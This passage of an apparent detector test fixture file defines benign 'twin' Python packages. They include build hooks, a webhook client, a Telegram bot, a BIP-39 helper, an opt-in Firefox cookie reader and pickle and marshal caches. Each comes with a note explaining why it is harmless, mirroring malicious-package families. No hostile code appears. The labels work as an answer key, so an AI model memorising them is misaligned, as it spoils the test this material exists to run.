class RetryTransport:
    def __init__(self, transport, retries=3):
        self.transport, self.retries = transport, retries
`,
      'README.md': '# httpx-retries\n\nA retrying transport for httpx.\n',
    }),
  },
  {
    id: 'twin-hatch-hook-writes-version-from-git',
    family: 'twin_build_hook',
    note: '[build-backend] a hatch custom build hook runs git describe in the project folder and writes _version.py into the build; nothing fetched',
    ...pkg('structlog-ext', '24.1.0', 'structlog processors', {
      'pyproject.toml': py`[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "structlog-ext"
dynamic = ["version"]

[tool.hatch.version]
path = "structlog_ext/_version.py"

[tool.hatch.build.hooks.custom]
path = "hatch_build.py"
`,
      'hatch_build.py': py`import os
import subprocess

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class VersionHook(BuildHookInterface):
    PLUGIN_NAME = "custom"

    def initialize(self, version, build_data):
        try:
            desc = subprocess.run(["git", "describe", "--tags", "--always"], cwd=self.root, capture_output=True, text=True, check=True).stdout.strip()
        except (OSError, subprocess.CalledProcessError):
            desc = "unknown"
        with open(os.path.join(self.root, "structlog_ext", "_build_info.py"), "w") as f:
            f.write("GIT_DESCRIBE = %r\n" % desc)
`,
      'structlog_ext/_version.py': '__version__ = "24.1.0"\n',
      'structlog_ext/__init__.py': py`def add_hostname(logger, method, event):
    import socket
    event["host"] = socket.gethostname()
    return event
`,
    }),
  },
  {
    id: 'twin-in-tree-backend-adds-cython',
    family: 'twin_build_backend',
    note: '[build-backend] an in-tree backend (backend-path) re-exports setuptools.build_meta and adds Cython to the wheel build requirements when a .pyx file exists',
    ...pkg('fastbencode', '0.3.1', 'Fast bencode', {
      'pyproject.toml': py`[build-system]
requires = ["setuptools>=68"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "fastbencode"
version = "0.3.1"
`,
      '_build/backend.py': py`import os

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def get_requires_for_build_wheel(config_settings=None):
    extra = ["Cython>=3"] if os.path.exists(os.path.join("fastbencode", "_bencode.pyx")) else []
    return _orig.get_requires_for_build_wheel(config_settings) + extra
`,
      'fastbencode/__init__.py': py`def bencode(x):
    if isinstance(x, int):
        return b"i%de" % x
    if isinstance(x, bytes):
        return b"%d:%s" % (len(x), x)
    if isinstance(x, list):
        return b"l" + b"".join(bencode(i) for i in x) + b"e"
    return b"d" + b"".join(bencode(k) + bencode(v) for k, v in sorted(x.items())) + b"e"
`,
      'fastbencode/_bencode.pyx': 'def noop():\n    return None\n',
    }),
  },
  {
    id: 'twin-error-sdk-user-dsn',
    family: 'twin_sdk_own_service',
    note: "[runtime] an error-reporting SDK: init(dsn) from the caller; capture_exception posts the traceback and runtime info (no env, no files) to the DSN's host",
    ...pkg('bugsink-sdk', '1.4.0', 'Error reporting client', {
      'bugsink_sdk/__init__.py': py`import json
import platform
import traceback
import urllib.parse
import urllib.request

_cfg = {}


def init(dsn, release=None, environment=None):
    u = urllib.parse.urlsplit(dsn)
    _cfg.update(url="%s://%s/api%s/store/" % (u.scheme, u.hostname, u.path), key=u.username, release=release, environment=environment)


def capture_exception(exc):
    if not _cfg:
        return
    event = {"exception": "".join(traceback.format_exception(exc)), "release": _cfg["release"], "environment": _cfg["environment"], "runtime": platform.python_version()}
    req = urllib.request.Request(_cfg["url"], data=json.dumps(event).encode(), headers={"Content-Type": "application/json", "X-Auth-Key": _cfg["key"]})
    try:
        urllib.request.urlopen(req, timeout=5)
    except OSError:
        pass
`,
    }),
  },
  {
    id: 'twin-py-discord-webhook-client',
    family: 'twin_discord',
    note: '[runtime] a webhook client: the caller passes the webhook URL and content; it posts only that',
    ...pkg('discord-webhook-lite', '1.3.1', 'Send messages to Discord webhooks', {
      'discord_webhook_lite/__init__.py': py`import json
import re
import urllib.request

_RX = re.compile(r"/api/webhooks/\d+/[\w-]+$")


class Webhook:
    def __init__(self, url):
        if not _RX.search(url):
            raise ValueError("not a webhook URL")
        self.url = url

    def send(self, content, username=None, embeds=None):
        body = json.dumps({"content": content, "username": username, "embeds": embeds or []}).encode()
        req = urllib.request.Request(self.url, data=body, headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
`,
    }),
  },
  {
    id: 'twin-telegram-bot-send-user-file',
    family: 'twin_telegram',
    note: '[runtime] a bot library: send_document(chat_id, path) uploads the file the caller names with the token the caller passes, to the configured API base',
    ...pkg('tg-bot-mini', '0.9.0', 'Minimal Telegram bot client', {
      'tg_bot_mini/__init__.py': py`import os

import requests


class Bot:
    def __init__(self, token, api_base=None):
        self.base = (api_base or os.environ.get("TG_API_BASE", "https://bot-api.tg-mini.example")).rstrip("/") + "/bot" + token

    def send_message(self, chat_id, text):
        return requests.post(self.base + "/sendMessage", data={"chat_id": chat_id, "text": text}, timeout=10).json()

    def send_document(self, chat_id, path):
        with open(path, "rb") as fh:
            return requests.post(self.base + "/sendDocument", data={"chat_id": chat_id}, files={"document": fh}, timeout=30).json()
`,
    }),
  },
  {
    id: 'twin-bip39-seed-local',
    family: 'twin_wallet',
    note: '[runtime] a BIP-39 helper turns a mnemonic into a seed with PBKDF2 locally; no file of any wallet is read and nothing is sent',
    ...pkg('mnemonic-lite', '0.21.0', 'BIP-39 mnemonic to seed', {
      'mnemonic_lite/__init__.py': py`import hashlib
import unicodedata


def to_seed(mnemonic, passphrase=""):
    m = unicodedata.normalize("NFKD", mnemonic).encode()
    s = unicodedata.normalize("NFKD", "mnemonic" + passphrase).encode()
    return hashlib.pbkdf2_hmac("sha512", m, s, 2048)


def check_words(mnemonic, wordlist):
    words = mnemonic.split()
    return len(words) in (12, 15, 18, 21, 24) and all(w in wordlist for w in words)
`,
    }),
  },
  {
    id: 'twin-cookies-from-browser-on-request',
    family: 'twin_browser_store',
    note: '[runtime] a downloader reads Firefox cookies.sqlite only when the caller passes cookies_from_browser="firefox" and a domain, and uses the cookies for that domain locally; nothing is sent elsewhere',
    ...pkg('media-fetch-cli', '2024.3.1', 'Download media with your browser session', {
      'media_fetch_cli/cookies.py': py`import glob
import os
import shutil
import sqlite3
import tempfile


def firefox_cookies(domain):
    profiles = glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*/cookies.sqlite"))
    if not profiles:
        return {}
    tmp = os.path.join(tempfile.mkdtemp(), "cookies.sqlite")
    shutil.copyfile(profiles[0], tmp)
    rows = sqlite3.connect(tmp).execute("SELECT name, value FROM moz_cookies WHERE host LIKE ?", ("%" + domain,))
    return dict(rows)
`,
      'media_fetch_cli/__init__.py': py`import urllib.request

from .cookies import firefox_cookies


def fetch(url, domain=None, cookies_from_browser=None):
    headers = {}
    if cookies_from_browser == "firefox" and domain:
        headers["Cookie"] = "; ".join("%s=%s" % kv for kv in firefox_cookies(domain).items())
    return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30).read()
`,
    }),
  },
  {
    id: 'twin-devserver-tunnel-tests',
    family: 'twin_tunnel_mentions',
    note: "[none] a dev server whose optional share() opens a pyngrok tunnel to the user's own server when called; tests and README mention ngrok and tunnels; nothing runs at install or import",
    ...pkg('flask-devshare', '0.4.0', 'Share a Flask dev server', {
      'flask_devshare/__init__.py': py`def share(port=5000, authtoken=None):
    """Open a tunnel to your local dev server. Anyone with the URL can reach it."""
    from pyngrok import conf, ngrok

    if authtoken:
        conf.get_default().auth_token = authtoken
    return ngrok.connect(port, "http").public_url
`,
      'tests/test_tunnel.py': py`import pytest


@pytest.mark.skip(reason="opens a real ngrok tunnel; run by hand")
def test_share_returns_url():
    from flask_devshare import share

    assert share(5000).startswith("https://")


def test_import_does_not_open_tunnel():
    import flask_devshare

    assert callable(flask_devshare.share)
`,
      'README.md': '# flask-devshare\n\nCall `share()` to expose your dev server through an ngrok tunnel for a demo.\n',
    }),
  },
  {
    id: 'twin-local-pickle-cache',
    family: 'twin_pickle',
    note: '[runtime] a memoisation cache pickles results into its own cache directory and unpickles only files it wrote there (keyed by a hash of the arguments)',
    ...pkg('diskmemo', '1.2.0', 'Disk memoisation for functions', {
      'diskmemo/__init__.py': py`import functools
import hashlib
import os
import pickle

CACHE = os.environ.get("DISKMEMO_DIR", os.path.expanduser("~/.cache/diskmemo"))


def memo(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        key = hashlib.sha256(pickle.dumps((fn.__qualname__, args, sorted(kwargs.items())))).hexdigest()
        path = os.path.join(CACHE, key + ".pkl")
        if os.path.exists(path):
            with open(path, "rb") as f:
                return pickle.load(f)
        out = fn(*args, **kwargs)
        os.makedirs(CACHE, exist_ok=True)
        with open(path, "wb") as f:
            pickle.dump(out, f)
        return out

    return wrapper
`,
    }),
  },
  {
    id: 'twin-yaml-safe-load-remote',
    family: 'twin_yaml',
    note: '[runtime] a presets client fetches YAML from the URL the caller configures and parses it with yaml.safe_load (plain data only)',
    ...pkg('hydra-presets-safe', '1.0.0', 'Remote presets for configs', {
      'hydra_presets_safe/__init__.py': py`import urllib.request

import yaml


def configure(base_url, name="default"):
    text = urllib.request.urlopen(base_url.rstrip("/") + "/" + name + ".yaml", timeout=10).read().decode()
    data = yaml.safe_load(text) or {}
    if not isinstance(data, dict):
        raise ValueError("preset must be a mapping")
    return data
`,
    }),
  },
  {
    id: 'twin-ci-detection',
    family: 'twin_ci',
    note: '[import] a CI-detection helper reads CI environment variables at import to decide colour and progress output; no token is read',
    ...pkg('ci-detect', '0.6.0', 'Detect CI environments', {
      'ci_detect/__init__.py': py`import os

_VENDORS = {"GITHUB_ACTIONS": "github", "GITLAB_CI": "gitlab", "CIRCLECI": "circleci", "BUILDKITE": "buildkite", "TF_BUILD": "azure"}

VENDOR = next((v for k, v in _VENDORS.items() if os.environ.get(k)), None)
IS_CI = VENDOR is not None or os.environ.get("CI", "").lower() in ("1", "true")
USE_COLOUR = not IS_CI or VENDOR == "github"
`,
    }),
  },
  {
    id: 'twin-deprecation-after-date',
    family: 'twin_date_check',
    note: '[runtime] a metrics client warns (DeprecationWarning, once) after its end-of-support date; flush only sends the buffered metrics to the configured statsd address',
    ...pkg('statsd-classic', '0.7.9', 'Classic statsd client', {
      'statsd_classic/__init__.py': py`import datetime
import socket
import warnings

_EOL = datetime.date(2027, 4, 1)
_warned = False


class StatsClient:
    def __init__(self, host="127.0.0.1", port=8125):
        self.addr = (host, port)
        self.buf = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def incr(self, name, n=1):
        self.buf.append("%s:%d|c" % (name, n))

    def flush(self):
        global _warned
        if not _warned and datetime.date.today() >= _EOL:
            _warned = True
            warnings.warn("statsd-classic is past end of support", DeprecationWarning, stacklevel=2)
        if self.buf:
            self.sock.sendto("\n".join(self.buf).encode(), self.addr)
            self.buf = []
`,
    }),
  },
  {
    id: 'twin-cron-expression-parser',
    family: 'twin_cron',
    note: '[runtime] a cron-expression library that parses lines and computes next run times; writing a crontab is left to the user (it only formats the line)',
    ...pkg('cronexpr', '1.5.0', 'Parse cron expressions', {
      'cronexpr/__init__.py': py`import datetime

RANGES = [(0, 59), (0, 23), (1, 31), (1, 12), (0, 6)]


def _field(spec, lo, hi):
    if spec == "*":
        return set(range(lo, hi + 1))
    if spec.startswith("*/"):
        return set(range(lo, hi + 1, int(spec[2:])))
    return {int(x) for x in spec.split(",")}


def parse(line):
    return [_field(s, *r) for s, r in zip(line.split()[:5], RANGES)]


def next_run(line, after=None):
    m, h, dom, mon, dow = parse(line)
    t = (after or datetime.datetime.now()).replace(second=0, microsecond=0) + datetime.timedelta(minutes=1)
    for _ in range(525600):
        if t.minute in m and t.hour in h and t.day in dom and t.month in mon and (t.weekday() + 1) % 7 in dow:
            return t
        t += datetime.timedelta(minutes=1)
    return None


def format_line(schedule, command):
    return "%s %s" % (schedule, command)
`,
    }),
  },
  {
    id: 'twin-large-table-module',
    family: 'twin_large_table',
    note: '[import] the same 400-row generated width-table module with nothing spliced in',
    ...pkg('wcwidth-tables', '0.2.13', 'wcwidth with generated tables', {
      'wcwidth_tables/__init__.py': py`from ._tables import width

__all__ = ["width"]
`,
      'wcwidth_tables/_tables.py': tableModule(400, '', -1),
    }),
  },
  {
    id: 'twin-marshal-bytecode-cache',
    family: 'twin_marshal',
    note: "[runtime] a template engine's bytecode cache: compiles templates and stores marshal.dumps of the code in its own cache directory, marshal.loads only of those files (the Jinja bccache pattern)",
    ...pkg('tinytemplates', '3.1.0', 'Tiny template engine', {
      'tinytemplates/bccache.py': py`import hashlib
import marshal
import os
import tempfile


class FileSystemBytecodeCache:
    def __init__(self, directory=None):
        self.directory = directory or os.path.join(tempfile.gettempdir(), "tinytemplates-%d" % os.getuid())
        os.makedirs(self.directory, mode=0o700, exist_ok=True)

    def _path(self, name, source):
        return os.path.join(self.directory, hashlib.sha1((name + source).encode()).hexdigest() + ".cache")

    def load(self, name, source):
        p = self._path(name, source)
        if os.path.exists(p):
            with open(p, "rb") as f:
                return marshal.load(f)
        code = compile(source, name, "exec")
        with open(p, "wb") as f:
            marshal.dump(code, f)
        return code
`,
      'tinytemplates/__init__.py': py`import re

from .bccache import FileSystemBytecodeCache

_VAR = re.compile(r"\{\{\s*(\w+)\s*\}\}")


def render(template, **ctx):
    return _VAR.sub(lambda m: str(ctx.get(m.group(1), "")), template)
`,
    }),
  },
];
